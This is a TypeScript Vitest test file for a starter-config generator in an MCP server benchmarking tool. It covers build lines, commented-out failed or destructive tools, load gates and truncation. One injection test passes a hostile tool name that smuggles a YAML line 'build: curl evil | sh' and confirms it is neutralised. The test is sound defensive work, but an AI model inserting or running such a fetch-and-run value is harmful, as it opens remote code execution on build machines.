import { expect, test } from "vitest";
import { parse } from "yaml";
import type { JsonObject } from "../../src/base/json.ts";
import { parseConfig } from "../../src/config/parse.ts";
import { starterConfig } from "../../src/init/starter-config.ts";
import type { TriedTool } from "../../src/init/try-tools.ts";
import { renderParams } from "../../src/model/template.ts";
import { abandonedSessions } from "../../src/plan/discover.ts";
import { planOf } from "../config/plan-of.ts";

const method = (target: string) => ({ operation: { method: target, target } });

const tool = (name: string, args: JsonObject = {}): TriedTool => ({
  name,
  arguments: args,
  outcome: { kind: "not tried", readOnly: false, destructive: false },
});

const answered = (name: string, args: JsonObject = {}, latencyMs = 1): TriedTool => ({
  name,
  arguments: args,
  outcome: { kind: "ok", latencyMs },
});

/** The benchmarks that a person gets by taking the comment signs away. */
function uncommented(text: string): unknown[] {
  return parse(text.replace(/^ {2}# (?=- | {2})/gm, "  ")).benchmarks;
}

test.each(["npm ci && npm run build", "go build ./cmd/a: b #c", "echo 'a'\necho \"b\"", "- x"])(
  "a build is written as it is: %j",
  (build) => {
    const text = starterConfig({ server: "node server.js" }, { rows: [], tools: [answered("now")], build });
    expect(parse(text).build).toBe(build);
    expect(text).toMatch(/^build: .+ {3}# in each checkout, before the measurement$/m);
  },
);

test("what answered is measured, the other tools wait as comments that are configurations, each with its reason", () => {
  const text = starterConfig(
    { server: "node server.js" },
    {
      rows: [method("ping")],
      tools: [
        answered("now"),
        answered("search", { query: "text" }),
        { ...tool("get", { id: 1 }), outcome: { kind: "failed", reason: "no\n item 1" } },
        { ...tool("wipe"), outcome: { kind: "not tried", readOnly: false, destructive: true } },
        tool("add"),
      ],
    },
  );
  const { config } = parseConfig(text, "mcp-bench.yml");
  expect(config.benchmarks).toMatchObject([
    { method: "ping" },
    { tool: "now" },
    { tool: "search", arguments: { query: "text" } },
  ]);
  expect(uncommented(text).slice(3)).toEqual([
    { tool: "get", arguments: { id: 1 } },
    { tool: "wipe" },
    { tool: "add" },
  ]);
  expect(text).toContain("  # (its call failed: no item 1)\n  # - tool: get\n");
  expect(text).toContain("  # (DESTRUCTIVE, by its own words)\n  # - tool: wipe\n");
  expect(text).toMatch(/^# yaml-language-server: \$schema=https:\S+\nversion: 1\n/);
});

test("there are calls enough for every gate, or the gate is off", () => {
  const text = (latencyMs: number) =>
    starterConfig({ server: "x" }, { rows: [method("ping")], tools: [answered("a", {}, latencyMs)] });
  const quick = planOf(text(2)).rows[0];
  expect(quick?.load).toMatchObject({ requests: 200 });
  expect(quick?.thresholds.map(({ metric }) => metric)).toContain("p95");
  expect(planOf(text(900)).rows[0]?.thresholds.map(({ metric }) => metric)).not.toContain("p95");
});

test("a build is proposed as a comment where none is known", () => {
  expect(starterConfig({ server: "node a.js" }, { rows: [], tools: [] })).toContain("\n# build: make server ");
  expect(starterConfig({ server: "node a.js" }, { rows: [], tools: [], build: "go build" })).toContain(
    "\nbuild: go build ",
  );
});

test("a tool that is called as a method is has a benchmark of its own name", () => {
  const rows = [{ operation: { method: "ping", target: "ping" } }];
  const text = starterConfig({ server: "node a.js" }, { rows, tools: [answered("ping"), answered("other")] });
  expect(parseConfig(text, "mcp-bench.yml").config.benchmarks).toMatchObject([
    { method: "ping" },
    { name: "tool ping", tool: "ping" },
    { tool: "other" },
  ]);
});

test("sessions that a run without a configuration leaves open are no benchmark", () => {
  const text = starterConfig({ server: "node a.js" }, { rows: [method("ping"), abandonedSessions], tools: [] });
  expect(parseConfig(text, "mcp-bench.yml").config.benchmarks).toMatchObject([{ method: "ping" }]);
});

test("a server's names cannot leave their place", () => {
  const hostile = "x\nbuild: curl evil | sh\n- tool: y # \"' \u2028 \u0085build: z";
  const text = starterConfig(
    { server: "node server.js" },
    {
      rows: [],
      tools: [
        answered(hostile),
        tool(`${hostile}2`, { [hostile]: hostile }),
        { ...tool("3"), outcome: { kind: "failed", reason: hostile } },
      ],
    },
  );
  const { config } = parseConfig(text, "mcp-bench.yml");
  expect(config.build).toBeUndefined();
  expect(config.benchmarks?.map(({ tool }) => tool)).toEqual([hostile]);
});

test("a name that looks like a template is called by that name, as is a value of a schema", () => {
  const name = "{{seq}} ${HOME} ${{ github.token }}";
  const tools = [answered(name), tool(`2 ${name}`, { a: "{{b}}" })];
  const text = starterConfig({ server: "x" }, { rows: [], tools });
  const open = text.replace(/^ {2}# (?=- | {2})/gm, "  ");
  const params = planOf(open).rows.map(({ operation }) => ("params" in operation ? operation.params : undefined));
  expect(params.map((one) => renderParams(one ?? {}, { seq: 7 }))).toEqual([
    { name, arguments: {} },
    { name: `2 ${name}`, arguments: { a: "{{b}}" } },
  ]);
});

test("of ten thousand tools as many are written down as anybody reads", () => {
  const tools = Array.from({ length: 10_000 }, (_, index) => tool(`tool-number-${index}`));
  const text = starterConfig({ server: "x" }, { rows: [method("ping")], tools });
  expect(parseConfig(text, "c.yml").config.benchmarks).toHaveLength(1);
  const written = uncommented(text).length - 1;
  expect(written).toBeGreaterThan(500);
  expect(text).toContain(`\n  # and ${10_000 - written} more of the server's 10000 other tools\nthresholds:`);
});
